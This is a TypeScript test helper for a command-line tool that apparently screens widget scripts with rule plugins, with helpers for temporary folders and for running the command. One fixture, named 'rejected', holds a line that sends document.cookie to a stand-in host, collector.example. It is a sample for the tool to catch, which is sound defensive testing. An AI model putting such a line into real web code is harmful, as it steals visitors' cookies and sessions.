import { spawn } from "node:child_process";
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { fileURLToPath, pathToFileURL } from "node:url";
import { type OpenPipeline, runCommand, type Terminal } from "../../src/cli/index.js";
import type { Pipeline } from "../../src/contracts/index.js";
import { createPipeline } from "../../src/pipeline/index.js";
import { rulePlugins } from "../../src/plugins/rule-plugins.js";

const root = fileURLToPath(new URL("../..", import.meta.url));

export interface Run {
  readonly code: number;
  readonly out: string;
  readonly err: string;
}

export interface Folder {
  readonly path: string;
  write(name: string, text: string | Uint8Array): Promise<string>;
  /** Runs the command in this process with streams of its own. */
  run(args: readonly string[], options?: { stdin?: string; isTTY?: boolean; environment?: Record<string, string> }): Promise<Run>;
  remove(): Promise<void>;
}

/** One real pipeline for a test file: starting its workers takes longer than all judgements. */
export function sharePipeline(): { readonly open: OpenPipeline; close(): Promise<void> } {
  const pipelines = new Map<number, Promise<Pipeline>>();
  return {
    async open({ maxBytes }) {
      const known = pipelines.get(maxBytes) ?? createPipeline({ plugins: rulePlugins, limits: { maxBytes }, poolSize: 1 });
      pipelines.set(maxBytes, known);
      return { ...(await known), close: () => Promise.resolve() };
    },
    async close() {
      for (const pipeline of pipelines.values()) await (await pipeline).close();
    },
  };
}

/** A fresh folder that the command runs in. */
export async function makeFolder(open?: OpenPipeline): Promise<Folder> {
  const folder = await mkdtemp(path.join(tmpdir(), "vitrine-cli-"));
  return {
    path: folder,
    async write(name, text) {
      const file = path.join(folder, name);
      await mkdir(path.dirname(file), { recursive: true });
      await writeFile(file, text);
      return file;
    },
    async run(args, options = {}) {
      const said = { out: "", err: "" };
      const output = (name: keyof typeof said) => ({
        isTTY: options.isTTY ?? false,
        columns: 100,
        write(text: string) {
          said[name] += text;
          return Promise.resolve();
        },
      });
      const terminal: Terminal = {
        stdin: (async function* () {
          yield Buffer.from(options.stdin ?? "");
        })(),
        stdout: output("out"),
        stderr: output("err"),
        cwd: folder,
        environment: options.environment ?? {},
      };
      return { code: await runCommand(args, terminal, open && { openPipeline: open }), ...said };
    },
    remove: () => rm(folder, { recursive: true, force: true }),
  };
}

/** The command as a process of its own, from the sources. `into`: another program reads its output; the exit code stays the command's. */
export function spawnCommand(args: readonly string[], options: { cwd: string; stdin?: string; into?: string }): Promise<Run> {
  const loader = pathToFileURL(path.join(root, "node_modules/tsx/dist/loader.mjs")).href;
  const command = [process.execPath, "--import", loader, path.join(root, "src/cli/main.ts"), ...args];
  // A shell's pipe is a real one; those of child processes are sockets, which hold far more before a writer notices.
  const [program = "", ...rest] =
    options.into === undefined ? command : ["bash", "--norc", "-c", `"$@" | ${options.into}; exit "\${PIPESTATUS[0]}"`, "bash", ...command];
  const child = spawn(program, rest, { cwd: options.cwd, env: { PATH: process.env["PATH"], TMPDIR: tmpdir() } });
  let out = "";
  let err = "";
  child.stdout.on("data", (chunk: Buffer) => {
    out += chunk.toString("utf8");
  });
  child.stderr.on("data", (chunk: Buffer) => {
    err += chunk.toString("utf8");
  });
  child.stdin.end(options.stdin ?? "");
  return new Promise((resolve, reject) => {
    child.on("error", reject);
    child.on("close", (code) => resolve({ code: code ?? -1, out, err }));
  });
}

export const clean = `window.gro.onReady(function () {
  document.getElementById("gro-widget-root").textContent = window.gro.context.entities[0].name;
});
`;

export const rejected = `const root = document.getElementById("gro-widget-root");

root.textContent = "hello";
fetch("https://collector.example/?c=" + document.cookie);
root.title = "done";
`;
